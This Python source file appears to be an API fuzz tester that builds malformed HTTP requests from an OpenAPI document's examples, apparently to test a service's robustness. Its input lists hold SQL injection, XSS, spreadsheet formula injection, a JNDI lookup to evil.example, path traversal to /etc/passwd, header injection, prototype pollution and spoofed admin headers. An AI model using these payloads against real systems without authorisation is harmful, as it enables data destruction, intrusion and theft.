"""Requests that nobody in their senses sends: made from the document's own examples by a seed, well-formed as HTTP and as little else."""

import json
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from random import Random
from typing import Any
from urllib.parse import quote

TEXTS = (
    "",
    " ",
    "'; DROP TABLE records; --",
    "' OR '1'='1",
    '" OR ""="',
    "1); ATTACH DATABASE '/tmp/x' AS x; --",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    '=HYPERLINK("http://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "\x00",
    "a\x00b",
    "\x1b[2J",
    "\r\nset-cookie: a=b",
    "\u202egnp.exe",
    "\ufeff",
    "\u0000\u200b\u2028\u2029",
    "é́́́",
    "𝕳𝖚𝖎𝖙𝖔𝖓𝖌 🦊",
    "汇通" * 50,
    "x" * 300,
    "y" * 20_000,
    "NaN",
    "1e400",
    "-0",
    "0x10",
    "1_000",
    "１２３",
    "9" * 400,
    "0.0000000000000000000000001",
    "2025-02-30T00:00:00Z",
    "9999-12-31T23:59:59.999999999Z",
    "0000-00-00",
    "2025-12-05T09:30:00+99:99",
    "true",
    "null",
    "vault:v1:AAAA",
    "huitong:",
    "huitong:watch",
)
VALUES: tuple[object, ...] = (
    None,
    True,
    False,
    0,
    -1,
    1,
    2**31,
    2**53 + 1,
    2**63,
    -(2**63) - 1,
    10**400,
    0.1,
    -0.0,
    1e308,
    [],
    {},
    [[]],
    [None] * 50,
    {"": None},
    {"$ne": None},
    {"__proto__": {"admin": True}},
)
RAW = (
    b"NaN",
    b"Infinity",
    b"-Infinity",
    b"1e999",
    b'"\\ud800"',
    b'"\\udfff\\ud800"',
    b"01",
    b"1.",
    b"'x'",
    b"undefined",
    b"\xff",
    b"\xc0\xaf",
)
"""What stands in a body where a value was, and is no JSON or hardly any."""
TYPES = (
    "application/json",
    "application/json",
    "application/json",
    "application/json; charset=utf-8",
    "application/json; charset=latin-1",
    "application/json; charset=utf-16",
    "application/json; charset=",
    "application/x-ndjson",
    "application/vnd.apache.arrow.stream",
    "text/csv",
    "text/plain",
    "multipart/form-data; boundary=x",
    "application/x-www-form-urlencoded",
    "",
    "nonsense",
    "a/b;" * 50,
)
HEADERS: Mapping[str, tuple[str, ...]] = {
    "accept-language": ("zh", "en", "fr;q=0.9, zh;q=0.1", "*", ";;;", "zh" * 500),
    "idempotency-key": ("", " ", "a", "k" * 300, "'; DROP TABLE records; --", "<script>", "\xe9\xff"),
    "if-match": ("*", '"x"', "x", 'W/"x"', '"' * 99),
    "deadline-ms": ("0", "1", "-1", "60000", "60001", "soon", "1e3", "9" * 50),
    "x-purpose": ("audit:tests", "", "case:C-1", "p" * 500, "<script>"),
    "authorization": ("Bearer none", "Bearer ", "Basic YTpi", "Bearer huitong_" + "A" * 60, "Bearer ey.ey.ey", "x"),
    "cookie": ("session=none", "session=" + "A" * 500, "huitong_session=1; role=admin", ";=;=;"),
    "content-encoding": ("gzip", "identity", "br, gzip"),
    "accept": ("application/json", "text/html", "*/*;q=0", "application/vnd.apache.arrow.stream"),
    "x-forwarded-for": ("127.0.0.1", "203.0.113.9, 127.0.0.1"),
    "x-role": ("admin",),
    "x-http-method-override": ("DELETE",),
    "origin": ("http://elsewhere.example", "null"),
    "traceparent": ("00-" + "0" * 32 + "-" + "0" * 16 + "-01", "x", "00-" + "a" * 32 + "-" + "b" * 16 + "-ff"),
    "range": ("bytes=0-1",),
    "transfer-coding": ("x",),
}
TURNED_AWAY = ("authorization", "cookie", "origin", "x-forwarded-for", "content-encoding")
METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE")
KNOWN_MAX = 60
DEPTHS = (10, 100, 1_000, 20_000)


@dataclass(frozen=True)
class Request:
    """One request, as a caller puts it on the wire."""

    method: str
    path: str
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""


@dataclass(frozen=True)
class Operation:
    """What the document says can be asked."""

    method: str
    path: str
    parameters: tuple[tuple[str, str], ...]
    bodies: tuple[tuple[str, object], ...]


def operations_of(document: Mapping[str, Any]) -> list[Operation]:
    """Every operation of an OpenAPI document, with the examples of its bodies."""
    found = []
    for path, item in document["paths"].items():
        for method, described in item.items():
            parameters = tuple((one["in"], one["name"]) for one in described.get("parameters", ()))
            content = described.get("requestBody", {}).get("content", {})
            bodies = tuple((media, value) for media, one in content.items() for value in _examples(one))
            found.append(Operation(method.upper(), path, parameters, bodies))
    return found


def _examples(content: Mapping[str, Any]) -> list[object]:
    return [*(one["value"] for one in content.get("examples", {}).values()), *([content["example"]] if "example" in content else [])]


class Nasty:
    """Makes requests.

    Args:
        seed: Which.
        operations: What can be asked.
        known: Ids that there are, for paths.
    """

    def __init__(self, seed: int, operations: Sequence[Operation], known: Sequence[str]) -> None:
        self._random, self._operations, self._known = Random(seed), operations, list(known)

    def learn(self, record_id: str) -> None:
        """Notes an id that there is by now."""
        if len(self._known) < KNOWN_MAX:
            self._known.append(record_id)

    def request(self) -> Request:
        """The next one."""
        random = self._random
        one = random.choice(self._operations)
        method = one.method if random.random() < 0.95 else random.choice(METHODS)
        media, example = random.choice(one.bodies) if one.bodies else ("application/json", {})
        headers: dict[str, str] = {}
        if one.bodies or random.random() < 0.2:
            headers["content-type"] = media if random.random() < 0.85 else random.choice(TYPES)
        for _ in range(random.choice((0, 0, 1, 1, 2, 4))):
            name = random.choice(list(HEADERS))
            if name in TURNED_AWAY and random.random() < 0.9:  # nothing further is looked at
                continue
            headers[name] = random.choice(HEADERS[name])
        if "idempotency-key" not in headers and random.random() < 0.9:
            headers["idempotency-key"] = f"k{random.randrange(10**9)}"
        body = self._body(example) if one.bodies or random.random() < 0.05 else b""
        return Request(method, self._path(one), {name: value for name, value in headers.items() if value or random.random() < 0.5}, body)

    def _path(self, one: Operation) -> str:
        random, path = self._random, one.path
        for place, name in one.parameters:
            if place == "path":
                path = path.replace(f"{{{name}}}", quote(self._word(), safe="" if random.random() < 0.9 else "/"))
        asked = [name for place, name in one.parameters if place == "query" and random.random() < 0.6]
        if random.random() < 0.05:
            asked.append(random.choice(("", "x", "policy", "limit", "__proto__")))
        query = "&".join(f"{quote(name)}={quote(self._word())}" for name in asked)
        if random.random() < 0.03:
            query = random.choice(("%", "%zz", "a=%ff%fe", "&&==&", "a" * 5_000))
        return f"{path}?{query}" if query else path

    def _word(self) -> str:
        random = self._random
        kind = random.random()
        if kind < 0.5:
            return random.choice(self._known)
        if kind < 0.6:
            return str(random.choice((0, 1, -1, 10, 100_001, 2**63)))
        return random.choice(TEXTS)[:2_000] or "x"

    def _body(self, example: object) -> bytes:
        random = self._random
        kind = random.random()
        if kind < 0.05:
            return random.choice(
                (b"", b"null", b"[]", b"{}", b'""', b"0", b"\xef\xbb\xbf{}", b"\x00", random.randbytes(random.randrange(200)))
            )
        if kind < 0.08:
            depth = random.choice(DEPTHS)
            inside = random.choice(((b"[", b"]"), (b'{"a":', b"}"), (b"[", b"")))
            return inside[0] * depth + b"1" + inside[1] * depth
        if isinstance(example, str):
            return self._damaged(example.encode()) if kind < 0.9 else example.encode()
        document = json.loads(json.dumps(example))
        for _ in range(random.choice((0, 1, 1, 1, 2, 3))):
            document = self._changed(document)
        if isinstance(document, dict) and "id" in document and random.random() < 0.8:
            document["id"] = f"n{random.randrange(10**9)}"
        text = json.dumps(document)
        if kind < 0.12:
            return text.encode(random.choice(("utf-16", "utf-32", "utf-16-le", "cp037")))
        return self._damaged(text.encode()) if kind < 0.22 else text.encode()

    def _changed(self, value: object) -> object:
        """The document with one thing in it otherwise, added, or gone."""
        random = self._random
        if isinstance(value, dict) and value and random.random() < 0.9:
            name = random.choice(list(value))
            kind = random.random()
            if kind < 0.1:
                return {other: one for other, one in value.items() if other != name}
            if kind < 0.2:
                return {**value, random.choice(TEXTS): self._value()}
            return {**value, name: self._changed(value[name])}
        if isinstance(value, list) and value and random.random() < 0.9:
            place = random.randrange(len(value))
            return [*value[:place], self._changed(value[place]), *value[place + 1 :]]
        return self._value()

    def _value(self) -> object:
        return self._random.choice(TEXTS) if self._random.random() < 0.6 else self._random.choice(VALUES)

    def _damaged(self, body: bytes) -> bytes:
        random, at = self._random, self._random.randrange(len(body) + 1)
        kind = random.randrange(5)
        if kind == 0:
            return body[:at]
        if kind == 1:
            return body[:at] + random.randbytes(random.choice((1, 1, 2, 20))) + body[at + 1 :]
        if kind == 2:
            return body[:at] + random.choice(RAW) + body[at:]
        if kind == 3:
            return body * random.choice((2, 3, 50))
        colon = body.find(b":", at)
        end = min((place for mark in (b",", b"}") if (place := body.find(mark, colon)) > 0), default=-1)
        return body if colon < 0 or end < 0 else body[: colon + 1] + random.choice(RAW) + body[end:]
